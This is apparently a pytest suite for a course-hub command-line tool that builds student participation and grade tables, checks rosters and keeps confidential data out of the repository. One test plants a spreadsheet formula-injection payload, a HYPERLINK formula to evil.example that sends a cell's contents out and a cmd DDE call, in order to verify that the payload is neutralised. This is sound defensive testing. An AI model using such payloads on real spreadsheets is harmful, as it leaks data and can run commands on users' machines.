"""`coursehub participation`: what each student commented, against a class whose ledger is known from how it was made."""

import csv
import datetime as dt
import io
import os
import stat
from pathlib import Path

import classroom
import needs
import pytest
import sites
from classroom import COMMENTS_DUE, DAY, SECOND, Classroom
from click.testing import CliRunner, Result

from coursehub.cli import COMMANDS, main
from coursehub.grading import confidential, participation, roster
from coursehub.grading.roster import RosterError
from coursehub.records import course as the_course
from coursehub.records.course import Course
from coursehub.text import formats

TEXT = (classroom.FIXTURES / "course.yaml").read_text()
BROKEN = 2


@pytest.fixture(scope="module")
def room() -> Classroom:
    return classroom.generate()


@pytest.fixture(scope="module")
def root(room: Classroom, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The class: its repository, and beside it what only the staff have."""
    folder = tmp_path_factory.mktemp("class")
    classroom.write(room, folder / "hub")
    (folder / "comments.json").write_bytes(classroom.discussions(room))
    (folder / "roster.csv").write_bytes(classroom.roster(room).encode())
    return folder / "hub"


@pytest.fixture(autouse=True)
def no_workflow(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)


def run(root: Path, *arguments: str, command: str = "participation", **files: Path) -> Result:
    paths = {"roster": root.parent / "roster.csv", "comments": root.parent / "comments.json", **files}
    given = [word for name, path in paths.items() for word in (f"--{name}", str(path))]
    result = CliRunner().invoke(main, [command, "--root", str(root), *given, *arguments])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def read(content: bytes | str) -> list[dict[str, str]]:
    text = content.decode() if isinstance(content, bytes) else content
    rows = csv.DictReader(io.StringIO(text, newline=""))
    return [
        {**row, "login": row["login"].lower()} if "login" in row else row for row in rows
    ]  # the roster has some in capitals


# The class


def test_the_class_is_as_large_as_it_should_be(room: Classroom) -> None:
    assert (len(room.expected), len(room.comments)) == (120, 400)
    assert sum(record["author"] is None for _, record in room.comments) == 5
    assert len({where for where, record in room.comments if record["author"] is None}) == 2


def test_the_ledger_is_the_one_that_the_class_was_made_with(room: Classroom, root: Path) -> None:
    result = run(root)
    assert result.exit_code == 0, result.stderr
    rows = read(result.stdout_bytes)
    ledger = {
        row["login"]: (
            int(row["posts commented on in time"]),
            [
                (row[f"comment {number}"], row[f"comment {number} on"], row[f"comment {number} flags"])
                for number in range(1, 100)
                if row.get(f"comment {number}")
            ],
        )
        for row in rows
    }
    assert ledger == {who: (each.counted, each.comments) for who, each in room.expected.items()}
    assert list(ledger) == [classroom.login(number) for number in range(1, 121)]


def test_what_belongs_to_no_student_is_told_after_the_table(root: Path) -> None:
    assert run(root).stderr.splitlines() == [
        f"2 comments by deleted accounts on {classroom.term(1)}: whose, GitHub does not say any more.",
        f"3 comments by deleted accounts on {classroom.term(2)}: whose, GitHub does not say any more.",
        "4 comments by people who are not on the roster: hubot (4).",
        "10 comments by bots, passed over.",
    ]


def test_what_belongs_to_no_student_is_in_the_order_of_posts_and_logins(
    room: Classroom, root: Path, tmp_path: Path
) -> None:
    record = room.comments[0][1]
    records = [(term, {**record, "author": who}) for term in ("posts/F2026/b", "posts/F2026/c", "posts/F2026/a")
            for who in (None, "zoe", "Bob", "amy")]  # fmt: skip
    comments = tmp_path / "comments.json"
    for some in (records, records[::-1]):
        comments.write_bytes(classroom.discussions(room, comments=some))
        lines = run(root, comments=comments).stderr.splitlines()
        assert [line.partition(" on ")[2].partition(":")[0] for line in lines[:3]] == [
            f"posts/F2026/{name}" for name in "abc"
        ]
        assert lines[3:] == ["9 comments by people who are not on the roster: amy (3), bob (3), zoe (3)."]
    assert lines[0].startswith("1 comment by deleted accounts on posts/F2026/a: ")


def test_a_row_has_names_from_the_roster_posts_times_and_texts(root: Path) -> None:
    rows = {row["login"]: row for row in read(run(root).stdout_bytes)}
    row = rows["student-015"]
    assert (row["name"], row["id"]) == ("Planted, Name015", "770015")
    assert (row["post"], row["status"]) == (f"{classroom.term(10)}.md", "published")
    assert row["comments due"] == "2026-11-02 23:59:00-05:00"
    assert (row["comment 1 at"], row["comment 2 at"]) == ("2026-11-01 01:30:00-04:00", "2026-11-01 01:30:00-05:00")
    assert row["comment 1 text"] == classroom.GOOD
    assert rows["student-003"]["post"] == rows["student-004"]["post"] == f"{classroom.term(2)}.md"
    assert rows["student-011"]["flags"] == "no comment"
    assert rows["student-014"]["comments due"] == rows["student-029"]["comments due"] == "2026-11-05 23:59:00-05:00"
    assert (
        rows["student-013"]["flags"]
        == "1 on a post of the staff, 1 on a post of another semester, 1 on a withdrawn post, 1 on no post that is here"
    )


@pytest.mark.parametrize(
    "arguments", ["participation", "grades", "grades --format canvas", "grades --format gradescope"]
)
def test_every_row_is_as_long_as_the_line_of_names(root: Path, arguments: str) -> None:
    command, *more = arguments.split()
    result = run(root, *more, command=command)
    assert result.exit_code == 0, result.stderr
    head, *rows = csv.reader(io.StringIO(result.stdout, newline=""))
    assert (len(rows) >= 120, {len(row) for row in rows}) == (True, {len(head)})


def test_the_order_of_the_comments_in_the_file_changes_nothing(room: Classroom, root: Path, tmp_path: Path) -> None:
    other = tmp_path / "comments.json"
    other.write_bytes(classroom.discussions(room, comments=room.comments[::-1]))
    assert run(root, comments=other).stdout_bytes == run(root).stdout_bytes


def test_before_the_deadline_it_says_that_there_is_still_time(room: Classroom, root: Path, tmp_path: Path) -> None:
    early = tmp_path / "comments.json"
    early.write_bytes(classroom.discussions(room, read=COMMENTS_DUE))
    assert (
        "The comments were read 2026-11-02 23:59:00-05:00, and 120 of 120 students can still comment in time."
        in run(root, comments=early).stderr
    )
    early.write_bytes(classroom.discussions(room, read=COMMENTS_DUE + SECOND))
    assert "8 of 120 students can still comment in time." in run(root, comments=early).stderr


# Moments


def a_course(text: str = TEXT) -> Course:
    course, troubles = the_course.read(text)
    assert course, troubles
    return course


@pytest.mark.parametrize(
    ("written", "instant"),
    [
        ("2026-10-30 23:59", "2026-10-31T03:59Z"),
        ("2026-11-02 23:59", "2026-11-03T04:59Z"),
        ("2026-11-01 01:30", "2026-11-01T06:30Z"),  # twice: the later one
        ("2027-03-14 02:30", "2027-03-14T07:30Z"),  # never: the later one
    ],
)
def test_a_deadline_that_clocks_show_twice_or_never_is_the_later_instant(written: str, instant: str) -> None:
    moment = a_course().moment(written)
    assert moment.astimezone(dt.UTC) == dt.datetime.fromisoformat(instant)


def test_lateness_across_the_hour_that_comes_twice_is_counted_in_seconds() -> None:
    course = a_course(TEXT.replace("comments_due: 2026-11-02 23:59", "comments_due: 2026-11-01 00:59"))
    due = course.comments_due("F2026")
    after = course.moment("2026-11-01 02:00")
    late = participation.lateness(after, due)
    assert late == dt.timedelta(hours=2, minutes=1)  # and not 1 h 1 min, as the clocks show
    assert participation.in_words(late) == "2 h 1 min"


# The course's own extensions, and what is given for what

WRONG = [
    ("F2026: {}", "F2027: {}", "extensions: “F2027” is not one of the semesters"),
    ("F2026: {}", "F2026: {a: {comments_due: soon}}", "comments_due: “soon” is not a moment such as 2026-12-04 23:59"),
    ("F2026: {}", "F2026: {a: {comments_due: 2026-11-02 23:58}}", "comments_due: “2026-11-02 23:58” is earlier than everybody's"),
    ("F2026: {}", "F2026: {a: {}, A: {}}", "extensions: “A” is given twice"),
    ("F2026: {}", "F2026: {A: {}, a: {}}", "extensions: “a” is given twice"),
    ("F2026: {}", "S2026: {a: {post_due: 2026-11-02 23:58}}", "post_due: S2026 has no such deadline that could be later"),
    ("F2026: {}", "F2026: {a: {until: x}}", "extensions.F2026[...]: object contains unknown field `until`"),
    ("[comments]", "[engaged]", "rubric[3].awarded_for[0]: invalid enum value 'engaged'"),
    ("full_score: 100", "full_score: 90", "full_score: the points of “mlops-tool” come to 100, not 90"),
    ("points: 3,", "points: -3,", "rubric: “public” takes 3 points away"),
    ("{id: findable", "{id: content", "rubric: “content” is given twice"),
]  # fmt: skip


@pytest.mark.parametrize(("old", "new", "what"), WRONG)
def test_what_is_wrong_in_the_course_is_said(old: str, new: str, what: str) -> None:
    course, troubles = the_course.read(TEXT.replace(old, new, 1))
    assert course is None
    assert troubles[0].what == what


# The roster

HEAD = "login,name,id\n"
GOOD_ROSTERS = [
    HEAD + "octocat,Mona,1\n",
    "\ufeff" + HEAD + "octocat,Mona,1\n",
    "Student,ID,Login\r\nMona,1,octocat\r\n\r\n",
    'login,name,id\noctocat,"Mona\nLisa",1\n',
]


@pytest.mark.parametrize("text", GOOD_ROSTERS)
def test_rosters_that_can_be_read(text: str) -> None:
    (student,) = roster.read(text.encode(), a_course(), "F2026")
    assert (student.login, student.id, student.line) == ("octocat", "1", 2)


SECRET = "Zebedee"  # whatever is wrong, no cell of the roster is quoted
BAD_ROSTERS: list[tuple[bytes, list[tuple[int, str]]]] = [
    (b"", [(1, "the file is empty; its first line names the columns: login,name,id")]),
    (HEAD.encode(), [(1, "no student follows the names of the columns")]),
    ((HEAD + f"hubot,{SECRET},7\n\nHubot,x,8\n").encode(), [(4, "the login Hubot is also in line 2")]),
    ((HEAD + f"hubot,{SECRET},7\nmona,x,7\n").encode(), [(3, "the id is also in line 2")]),
    (
        (HEAD + f",{SECRET},7\nmona,,\n").encode(),
        [(2, "the login is empty"), (3, "the id is empty"), (3, "the name is empty")],
    ),
    (
        (HEAD + f"{SECRET} Z,mona,7\n").encode(),
        [(2, "the login is not a GitHub login: at most 39 letters, digits and single hyphens, without @")],
    ),
    (
        f"login,name,id,{SECRET}\nmona,x,7,y\n".encode(),
        [(1, "the name of column 4 is none of: login, name, id, sis_user_id, sis_login_id, section, email, post_due, comments_due")],
    ),
    (b"login,name\nmona,x\n", [(1, "the column id is missing")]),
    (b"login,name,id,id\nmona,x,1,2\n", [(1, "the column id is there twice")]),
    (f"login;name;id\nmona;{SECRET};7\n".encode(), [(1, "the columns are separated by semicolons; save the file with commas")]),
    (f"login\tname\tid\nmona\t{SECRET}\t7\n".encode(), [(1, "the columns are separated by tabs; save the file with commas")]),
    ((HEAD + f"mona,Ren\u00e9 {SECRET},7\n").encode("latin-1"), [(2, "is not in UTF-8; save the file as “CSV UTF-8”")]),
    ((HEAD + f"mona,{SECRET},7\n").encode("utf-16"), [(1, "is not in UTF-8; save the file as “CSV UTF-8”")]),
    ((HEAD + f"mona,{SECRET},7\n").encode("utf-16-le"), [(1, "is not in UTF-8, or the file is no text; save it as “CSV UTF-8”")]),
    ((HEAD + f"mona,{SECRET}, Z,7\n").encode(), [(2, "has 4 cells for 3 columns; look at its commas and quotes")]),
    ((HEAD + f'mona,"{SECRET},7\n').encode(), [(2, "cannot be read as CSV; look at its quotes, and those of the lines after it")]),
    ((HEAD + f'mona,{SECRET},=7\n').encode(), [(2, "the id begins with a sign that a spreadsheet takes for a formula")]),
    (
        f"login,name,id,comments_due\nmona,x,7,{SECRET}\nhubot,x,8,2026-10-01 00:00\n".encode(),
        [(2, "the comments_due is not a moment such as 2026-12-04 23:59"), (3, "the comments_due is earlier than everybody's")],
    ),
]  # fmt: skip


@pytest.mark.parametrize(("content", "troubles"), BAD_ROSTERS)
def test_rosters_that_can_not_be_read(content: bytes, troubles: list[tuple[int, str]]) -> None:
    with pytest.raises(RosterError) as error:
        roster.read(content, a_course(), "F2026")
    assert [tuple(trouble) for trouble in error.value.troubles] == troubles
    assert SECRET not in str(error.value)


def test_of_a_broken_roster_lines_are_printed_and_nothing_is_written(root: Path, tmp_path: Path) -> None:
    (tmp_path / "roster.csv").write_text(HEAD + f"hubot,{SECRET},7\nHUBOT,{SECRET},8\n")
    result = run(root, "--output", str(tmp_path / "out.csv"), roster=tmp_path / "roster.csv")
    assert (result.exit_code, result.stdout) == (BROKEN, "")
    assert result.stderr == (
        "roster, line 3: the login HUBOT is also in line 2\ncoursehub: the roster cannot be used; nothing was written\n"
    )
    assert sorted(path.name for path in tmp_path.iterdir()) == ["roster.csv"]


# Where the table goes


@needs.MODES
def test_the_file_is_for_its_owner_only(root: Path, tmp_path: Path) -> None:
    output = tmp_path / "out.csv"
    output.write_text("older")
    output.chmod(0o644)
    old = os.umask(0)
    try:
        result = run(root, "--output", str(output))
    finally:
        os.umask(old)
    assert result.exit_code == 0
    assert result.stdout == ""
    assert f"Written to {output}, for you alone to read: 120 students." in result.stderr
    assert stat.S_IMODE(output.stat().st_mode) == 0o600
    assert output.read_bytes() == run(root).stdout_bytes
    assert [path.name for path in tmp_path.iterdir()] == ["out.csv"]


@pytest.mark.parametrize("command", ["participation", "grades"])
def test_a_file_that_cannot_be_written_leaves_the_older_one_and_is_told(
    root: Path, tmp_path: Path, command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    output = tmp_path / "out.csv"
    output.write_text("older")

    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(OSError, match="No space"):
        confidential.write(output, b"new")
    result = run(root, "--output", str(output), command=command)
    assert (result.exit_code, result.stdout) == (BROKEN, "")
    assert result.stderr == f"coursehub: --output: {output} cannot be written: No space left on device\n"
    assert [(path.name, path.read_text()) for path in tmp_path.iterdir()] == [("out.csv", "older")]


@pytest.mark.parametrize("command", ["participation", "grades"])
@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("grades.csv", "it would lie in the repository, where it could be committed"),
        ("posts/grades.csv", "it would lie in the repository, where it could be committed"),
        ("../hub/docs/../x.csv", "it would lie in the repository, where it could be committed"),
        (".git/x.csv", "it would lie in the repository, where it could be committed"),
        ("site/x.csv", "it would lie in site/, which is what gets published"),
    ],
)
def test_no_table_is_written_where_it_could_get_out(root: Path, path: str, why: str, command: str) -> None:
    (root / "site").mkdir(exist_ok=True)
    result = run(root, "--output", str(root / path), command=command)
    assert (result.exit_code, result.stdout) == (BROKEN, "")
    assert f"holds names and ids or grades, and {why}" in result.stderr
    assert not (root / path).exists()


@needs.LINKS
def test_a_place_that_git_ignores_is_fine_and_a_link_out_of_it_is_not(root: Path, tmp_path: Path) -> None:
    (root / "private").mkdir(exist_ok=True)
    assert run(root, "--output", str(root / "private/out.csv")).exit_code == 0
    (tmp_path / "link.csv").symlink_to(root / "posts/out.csv")
    assert run(root, "--output", str(tmp_path / "link.csv")).exit_code == BROKEN
    assert not (root / "posts/out.csv").exists()


def test_a_roster_that_could_be_committed_is_refused(root: Path) -> None:
    inside = root / "roster.csv"
    inside.write_bytes((root.parent / "roster.csv").read_bytes())
    try:
        result = run(root, roster=inside)
    finally:
        inside.unlink()
    assert (result.exit_code, result.stdout) == (BROKEN, "")
    assert "--roster:" in result.stderr


@pytest.mark.parametrize("command", ["participation", "grades"])
def test_in_a_workflow_nothing_is_printed(root: Path, command: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    result = run(root, command=command)
    assert (result.exit_code, result.stdout) == (BROKEN, "")
    assert "the logs of a workflow" in result.stderr


def test_the_output_is_none_of_the_inputs(root: Path, tmp_path: Path) -> None:
    here = tmp_path / "roster.csv"
    here.write_bytes((root.parent / "roster.csv").read_bytes())
    result = run(root, "--output", str(here), roster=here)
    assert result.exit_code == BROKEN
    assert here.read_bytes() == (root.parent / "roster.csv").read_bytes()


def test_comments_that_are_none(root: Path, tmp_path: Path) -> None:
    wrong = tmp_path / "comments.json"
    for content in ("", "{}", '{"provider": "giscus", "read": "2026-11-20T12:00:00", "discussions": [], "version": 1}'):
        wrong.write_text(content)
        result = run(root, comments=wrong)
        assert (result.exit_code, result.stdout) == (BROKEN, "")
        assert "is not what `coursehub comments` writes" in result.stderr


def test_a_semester_without_a_deadline_for_comments(root: Path) -> None:
    assert "does not say when comments of S2026 are due" in run(root, "--semester", "S2026").stderr
    assert "“F1999” is not one of the semesters" in run(root, "--semester", "F1999").stderr


# Spreadsheets


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        *((f"{sign}1+1", f"'{sign}1+1") for sign in "=+-@\t\r＝＋－＠"),
        ("a;=1", "a;'=1"), ('a;"=1', "a;'\"=1"), ("a\n=1", "a\n'=1"), ('"=1', "'\"=1"), (" =1", "' =1"),
        ("plain", "plain"), ("a = b - c", "a = b - c"), ("me@example.org", "me@example.org"), ("", ""),
    ],
)  # fmt: skip
def test_no_cell_is_run(text: str, cell: str) -> None:
    assert formats.inert(text) == cell
    assert list(csv.reader(io.StringIO(formats.as_csv([[text, -1]]).decode(), newline=""))) == [[cell, "-1"]]


def test_a_hostile_comment_is_text(room: Classroom, root: Path, tmp_path: Path) -> None:
    hostile = Classroom()
    hostile.say(
        "student-011", classroom.term(30), COMMENTS_DUE - DAY, text='=HYPERLINK("https://evil.example/?"&A1)\n=1;=cmd|x'
    )
    path = tmp_path / "comments.json"
    path.write_bytes(classroom.discussions(hostile))
    row = next(row for row in read(run(root, comments=path).stdout_bytes) if row["login"] == "student-011")
    assert row["comment 1 text"] == "'=HYPERLINK(\"https://evil.example/?\"&A1) =1;'=cmd|x"


# Nothing gets out

PLANTED = (b"Planted", b"planted0", b"770001", b"770120", b"sis001", b"Name120")


@needs.LINKS
@pytest.mark.slow
def test_names_ids_and_grades_are_nowhere_but_in_the_staffs_files(root: Path, tmp_path: Path) -> None:
    """The staff work in the folder of the class, then build the site and call everything else."""
    private = root / "private"
    private.mkdir(exist_ok=True)
    for name in ("roster.csv", "comments.json"):
        (private / name).write_bytes((root.parent / name).read_bytes())
    inputs = {"roster": private / "roster.csv", "comments": private / "comments.json"}
    outputs = b""
    for command, *more in (
        ("participation",),
        ("grades",),
        ("grades", "--format", "canvas"),
        ("grades", "--format", "gradescope"),
    ):
        output = private / f"{command}{len(more)}.csv"
        result = run(root, *more, "--output", str(output), command=command, **inputs)
        assert result.exit_code == 0, result.stderr
        assert all(word in output.read_bytes() for word in (b"Planted, Name120", b"770001"))
        outputs += result.stdout_bytes + result.stderr_bytes
    for name in ("mkdocs.yml", "hooks", "docs"):
        target = root / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if not target.exists():
            target.symlink_to(sites.ROOT / name)
    receipt = tmp_path / "receipt.pdf"
    calls: dict[str, list[str]] = {
        "check": [], "free": ["Evidently"], "compare": ["a", "b"], "replay": [],
        "receipt": [classroom.key(1), "--comments", str(inputs["comments"]), "--output", str(receipt)],
    }  # fmt: skip
    assert set(calls) < set(COMMANDS)
    for command, arguments in calls.items():
        result = CliRunner().invoke(main, [command, "--root", str(root), *arguments])
        assert isinstance(result.exception, SystemExit | None), result.exception
        outputs += result.stdout_bytes + result.stderr_bytes
    built = sites.build(root)
    assert built.code == 0, built.output
    assert f"posts/F2026/{classroom.key(1)}/index.html" in built.files()
    assert [word for word in PLANTED if word in outputs + built.output.encode() + receipt.read_bytes()] == []
    assert {word: places for word in PLANTED if (places := built.mentions(word))} == {}
    assert [path for path in tracked_or_new(root) if any(word in path.read_bytes() for word in PLANTED)] == []


def tracked_or_new(root: Path) -> list[Path]:
    """Files that a careless `git add --all` would take."""
    names = classroom.Repository(root).git("ls-files", "--cached", "--others", "--exclude-standard").splitlines()
    return [root / name for name in names if (root / name).is_file()]
